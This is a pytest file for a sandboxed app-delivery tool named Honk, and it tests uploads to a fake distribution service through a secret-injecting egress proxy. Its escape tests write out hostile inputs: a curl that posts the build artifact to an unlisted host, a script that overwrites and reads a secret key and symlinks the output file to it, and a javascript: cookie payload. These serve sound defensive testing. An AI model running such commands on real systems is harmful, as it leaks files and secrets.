"""Delivery by the team's own tool, with real parts: stand-ins for fastlane, firebase-tools and eas-cli
(honk.testing.fake_distribution) run under bubblewrap in the deliver phase, upload the build artifact
to a loopback fake distribution service they reach by host name through Honk's real egress proxy, which
adds the repo secret to their requests (the sandbox never holds it), and Honk posts the link they give
back in $HONK_OUTPUT or print. A command that fails, says no link, reaches a host it was not given, or
tries to write outside its workspace gets a clear outcome, and nothing of the worker's leaks into it."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from honk.deliver.command import NO_LINK, CommandDelivery, release_notes
from honk.domain import DeliverJob, DeliveryOutcome, RepoConfig, RepoRef, Workspace
from honk.egress.policies import EgressPolicies
from honk.egress.proxy import EgressProxy
from honk.network import Ceiling
from honk.sandbox import Sandbox, SandboxConfig
from honk.store import RepoSecrets, SecretKeys, Store
from honk.testing.egress_worker import MappedResolver
from honk.testing.fake_distribution import TOKEN, FakeDistribution, write_stand_ins
from honk.testing.gitrepo import RemoteRepo
from honk.verify.config import parse_repo_config

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None or shutil.which("curl") is None, reason="needs bubblewrap and curl"
)

UPLOAD = "upload.example.com"
OTHER = "other.example.com"  # resolves (to the same fake), but the repo never lists it
TASK = "t-deliver"
APP = "com.example.shop"
IPA = os.urandom(200_000)
APK = os.urandom(50_000)


@pytest.fixture(scope="module")
def distribution() -> Iterator[FakeDistribution]:
    with FakeDistribution(UPLOAD) as fake:
        yield fake


@pytest.fixture(scope="module")
def proxy(distribution: FakeDistribution) -> Iterator[EgressProxy]:
    answers = distribution.mapping(OTHER)
    p = EgressProxy(
        resolver=MappedResolver(answers), upstream_trust=distribution.ca_pem, reachable=answers.values()
    ).start()
    yield p
    p.stop()


def honk_toml(kind: str, run: str, wait: str | None = None, **more: str) -> str:
    extra = "".join(f"{k} = {v}\n" for k, v in more.items())
    waits = f"wait = {json.dumps(wait)}\n" if wait else ""
    return f"""
[network]
deliver = ["{UPLOAD}"]

[[network.allow]]
hosts = ["{UPLOAD}"]
phases = ["deliver"]
methods = ["POST"]

[[secrets]]
name = "UPLOAD_TOKEN"
phases = ["deliver"]
hosts = ["{UPLOAD}"]
header = "Authorization"
template = "Bearer {{secret}}"

[deliver]
kind = "{kind}"
run = {json.dumps(run)}
{waits}{extra}"""


TESTFLIGHT_RUN = (
    f'bin/fastlane pilot upload --ipa "$HONK_ARTIFACT" --app_identifier {APP} && '
    '{ echo status=processing; echo "message=Apple is processing the build"; echo version=2.4.0; } >> "$HONK_OUTPUT"'
)
# What a team's wait script does: ask for the build, say "processing" until its link is printed.
WAIT_SH = f"""#!/usr/bin/env bash
set -euo pipefail
said=$(bin/fastlane pilot builds --app_identifier {APP})
echo "$said"
case "$said" in *Processing*) echo status=processing >> "$HONK_OUTPUT" ;; esac
"""
FIREBASE_RUN = (
    'bin/firebase appdistribution:distribute "$HONK_ARTIFACT" --app 1:123:android:abc '
    '--release-notes "$HONK_RELEASE_NOTES"'
)
EXPO_RUN = (
    'EXPO_TOKEN=placeholder bin/eas update --branch "$HONK_BRANCH" --message "$HONK_RELEASE_NOTES" '
    '--non-interactive && echo "label=Open in Expo Go" >> "$HONK_OUTPUT"'
)


@dataclass
class World:
    delivery: CommandDelivery
    remote: RemoteRepo
    repo: RepoRef
    data: Path
    areas: Path
    artifacts: Path

    @property
    def area(self) -> Path:
        return self.areas / TASK

    def job(self, toml: str, config: RepoConfig | None = None) -> DeliverJob:
        return DeliverJob(
            task_id=TASK,
            repo=self.repo,
            config=config or parse_repo_config(toml),
            workspace=Workspace(path=self.remote.clone, branch=f"honk/{TASK}", mirror=self.remote.bare),
            artifacts_dir=str(self.artifacts),
            request="Make the checkout button bigger\nIt is too small on a phone.",
            summary="Raised the button to 48 dp and added a test.",
            branch=f"honk/{TASK}",
        )


@pytest.fixture
async def world(tmp_path: Path, proxy: EgressProxy, distribution: FakeDistribution) -> AsyncIterator[World]:
    distribution.clear()
    data = tmp_path / "data"
    remote = RemoteRepo(data / "workspaces" / TASK, {"app.txt": "shop\n", "wait.sh": WAIT_SH})
    write_stand_ins(remote.clone)
    (remote.clone / "wait.sh").chmod(0o755)
    artifacts = data / "artifacts" / TASK
    artifacts.mkdir(parents=True)
    (artifacts / "Shop.ipa").write_bytes(IPA)
    (artifacts / "shop.apk").write_bytes(APK)
    store = Store(f"sqlite+aiosqlite:///{tmp_path / 'honk.db'}")
    await store.create_schema()
    repo = RepoRef(name="shop", url=remote.url)
    await store.add_repo(repo)
    secrets = RepoSecrets(store, SecretKeys([], data / "repo-secrets.key"))
    await secrets.put("shop", "UPLOAD_TOKEN", TOKEN, "ada@example.com")
    policies = EgressPolicies(Ceiling(["*.example.com"]), secrets=secrets)
    sandbox = Sandbox(SandboxConfig(hidden=(data,), egress=proxy))
    areas = data / "areas"
    yield World(CommandDelivery(sandbox, areas, data / "logs", policies), remote, repo, data, areas, artifacts)
    await store.close()


def leaks(outcome: DeliveryOutcome, secret: str) -> bool:
    log = Path(outcome.log_path).read_text() if outcome.log_path else ""
    return secret in outcome.model_dump_json() or secret in log


async def test_a_testflight_upload_is_processing_then_waited_for_until_its_link(
    world: World, distribution: FakeDistribution
) -> None:
    job = world.job(honk_toml("testflight", TESTFLIGHT_RUN, "./wait.sh", artifact='"*.ipa"'))

    uploaded = await world.delivery.deliver(job)
    assert uploaded == DeliveryOutcome(
        state="processing",
        kind="testflight",
        version="2.4.0",
        message="Apple is processing the build",
        log_path=uploaded.log_path,
    )
    [upload] = distribution.uploads
    assert (upload.route, upload.app, upload.size) == ("builds", APP, len(IPA))
    assert upload.sha256 == hashlib.sha256(IPA).hexdigest(), "the .ipa the build kept, byte for byte"
    [sent] = distribution.requests
    assert (sent.method, sent.host, sent.authorization) == ("POST", UPLOAD, f"Bearer {TOKEN}")

    still = await world.delivery.wait(job)
    assert (still.state, still.url) == ("processing", None), still
    done = await world.delivery.wait(job)
    assert done.state == "delivered", done
    assert done.url == f"https://testflight.apple.com/v1/app/{APP}?build=1", "the kind's usual link, as printed"
    assert "Ready to test" in Path(done.log_path or "").read_text()
    assert not any(leaks(o, TOKEN) for o in (uploaded, still, done)), "the sandbox never held the token"
    assert not (world.area / "deliver-home").exists() and not (world.area / "deliver-wait-home").exists()


async def test_a_firebase_release_is_delivered_from_the_link_it_prints_with_the_release_notes(
    world: World, distribution: FakeDistribution
) -> None:
    job = world.job(honk_toml("firebase", FIREBASE_RUN, artifact='"build/outputs/*.apk"'))
    done = await world.delivery.deliver(job)
    assert done.state == "delivered", done
    assert done.url == "https://appdistribution.firebase.google.com/testerapps/1:123:android:abc/releases/1"
    [upload] = distribution.uploads
    assert (upload.route, upload.size, upload.sha256) == ("releases", len(APK), hashlib.sha256(APK).hexdigest())
    assert (
        upload.notes
        == release_notes(job)
        == ("Make the checkout button bigger\n\nRaised the button to 48 dp and added a test.")
    )


async def test_an_expo_update_goes_to_the_tasks_own_branch_and_needs_no_artifact(
    world: World, distribution: FakeDistribution
) -> None:
    shutil.rmtree(world.artifacts)  # a JS-only update publishes from the source
    done = await world.delivery.deliver(world.job(honk_toml("expo-update", EXPO_RUN)))
    assert (done.state, done.label) == ("delivered", "Open in Expo Go"), done
    assert done.url == f"https://expo.dev/accounts/honk/projects/shop/updates/1?branch=honk-{TASK}"
    [upload] = distribution.uploads
    assert (upload.route, upload.app) == ("updates", f"honk-{TASK}")
    assert distribution.requests[0].authorization == f"Bearer {TOKEN}", "the proxy replaced the placeholder"
    assert (world.remote.clone / "dist" / "bundle.js").is_file(), "the workspace is writable: eas exports there"


async def test_a_command_that_exits_non_zero_fails_with_its_distilled_log(world: World) -> None:
    noisy = "\n".join(f"uploading chunk {i}" for i in range(200))
    run = f"cat <<'EOF'\n{noisy}\nEOF\necho 'Error: The provided App Store Connect API key is not valid' >&2\nexit 3"
    failed = await world.delivery.deliver(world.job(honk_toml("testflight", run)))
    assert (failed.state, failed.why, failed.url) == ("failed", "exited 3", None)
    assert failed.detail.startswith("## delivery failed (`cat <<'EOF'")
    assert "Error: The provided App Store Connect API key is not valid" in failed.detail
    assert "uploading chunk 3\n" not in failed.detail, "distilled, not pasted"
    assert "uploading chunk 199" in Path(failed.log_path or "").read_text(), "the whole log is kept"


async def test_a_command_that_prints_no_link_fails_with_the_fix(world: World) -> None:
    failed = await world.delivery.deliver(world.job(honk_toml("command", "echo 'Uploaded. Check your email.'")))
    assert (failed.state, failed.why) == ("failed", NO_LINK)
    assert "Uploaded. Check your email." in failed.detail
    silent = await world.delivery.deliver(world.job(honk_toml("command", "true")))
    assert silent.why == NO_LINK and "it printed nothing" in silent.detail


async def test_a_command_that_writes_a_javascript_link_fails_and_no_link_is_posted(world: World) -> None:
    run = 'echo "url=javascript:alert(document.cookie)" >> "$HONK_OUTPUT"; echo https://apps.example.com/x'
    failed = await world.delivery.deliver(world.job(honk_toml("command", run, link_pattern='"https://\\\\S+"')))
    assert failed.state == "failed" and failed.url is None
    assert failed.why == "$HONK_OUTPUT's url must be an https:// link (a phone opens it from the thread)"


async def test_a_command_that_outlives_its_timeout_is_stopped_and_says_so(world: World) -> None:
    failed = await world.delivery.deliver(world.job(honk_toml("command", "echo started; sleep 60", timeout="1")))
    assert failed.state == "failed" and failed.why == "stopped after 1 s, its timeout"


async def test_a_missing_or_empty_artifact_fails_before_anything_runs(
    world: World, distribution: FakeDistribution
) -> None:
    missing = await world.delivery.deliver(world.job(honk_toml("testflight", TESTFLIGHT_RUN, artifact='"*.aab"')))
    assert (missing.state, missing.why) == (
        "failed",
        'no build artifact matches [deliver] artifact = "*.aab" (the build kept Shop.ipa, shop.apk; '
        "list it in [build] artifacts)",
    )
    (world.artifacts / "Shop.ipa").write_bytes(b"")
    empty = await world.delivery.deliver(world.job(honk_toml("testflight", TESTFLIGHT_RUN, artifact='"*.ipa"')))
    assert (empty.state, empty.why) == ("failed", "the build's artifact Shop.ipa is empty")
    assert distribution.requests == [] and not (world.areas / TASK).exists()


# -- the escape attempts ------------------------------------------------------------------------


async def test_a_host_the_deliver_phase_was_not_given_is_refused_by_the_proxy(
    world: World, distribution: FakeDistribution
) -> None:
    run = f'curl -sS --fail --max-time 10 --data-binary @"$HONK_ARTIFACT" https://{OTHER}/v1/apps/x/releases'
    failed = await world.delivery.deliver(world.job(honk_toml("command", run)))
    assert failed.state == "failed" and failed.why.startswith("exited "), failed
    assert distribution.requests == [], "the service behind the name never heard a thing"
    blocked = Sandbox.blocked(world.area)
    assert [(b.host, b.phase) for b in blocked] == [(OTHER, "deliver")], blocked


async def test_a_post_to_a_host_listed_only_for_reading_is_refused(
    world: World, distribution: FakeDistribution
) -> None:
    """The deliver phase runs code the agent may have written: listed hosts are read-only unless
    [[network.allow]] gives it more."""
    toml = honk_toml("firebase", FIREBASE_RUN).replace('methods = ["POST"]', 'methods = ["GET"]')
    failed = await world.delivery.deliver(world.job(toml))
    assert failed.state == "failed" and distribution.uploads == []
    assert [(b.host, b.reason) for b in Sandbox.blocked(world.area)] == [(UPLOAD, "method")]


async def test_writes_outside_the_workspace_fail_and_honk_output_cannot_point_at_a_worker_file(
    world: World,
) -> None:
    """Repo code tries to change the artifact it was shown, plant a file beside it or in the task's
    area, overwrite Honk's secret key, and have the worker read that key back through $HONK_OUTPUT."""
    key = world.data / "repo-secrets.key"
    before = key.read_bytes()
    run = f"""set +e
echo pwned > "$HONK_ARTIFACT" || echo "artifact is read-only"
echo pwned > "$(dirname "$HONK_ARTIFACT")/extra.ipa" || echo "artifacts dir is read-only"
echo pwned > "$HOME/../planted" || echo "the area is not ours"
echo pwned > {key} || echo "the key is covered"
cat {key} || echo "the key is not there"
rm -f "$HONK_OUTPUT" && ln -s {key} "$HONK_OUTPUT"
exit 0
"""
    failed = await world.delivery.deliver(world.job(honk_toml("command", run, artifact='"*.ipa"')))
    assert (failed.state, failed.why) == ("failed", "$HONK_OUTPUT is not a plain file (a link, or removed while read)")
    log = Path(failed.log_path or "").read_text()
    for said in ("artifact is read-only", "artifacts dir is read-only", "the area is not ours", "the key is covered"):
        assert said in log, log
    assert (world.artifacts / "Shop.ipa").read_bytes() == IPA
    assert not (world.artifacts / "extra.ipa").exists() and not (world.area / "planted").exists()
    assert key.read_bytes() == before
    assert before.decode(errors="replace").strip() not in failed.model_dump_json() + log
